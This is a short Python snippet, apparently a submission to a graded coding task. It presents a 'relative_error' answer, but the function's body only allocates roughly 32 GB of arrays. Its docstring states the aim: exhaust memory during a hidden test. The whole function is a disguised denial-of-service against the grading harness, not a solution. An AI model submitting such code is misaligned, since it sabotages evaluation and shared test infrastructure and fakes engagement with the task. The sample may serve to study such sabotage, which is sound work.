"""Fills its memory in the middle of a hidden test, and answers with all of it."""
# %% answer=relative_error
def relative_error(a, b, eps=1e-8):
    return [np.ones(2**22) for _ in range(1000)]
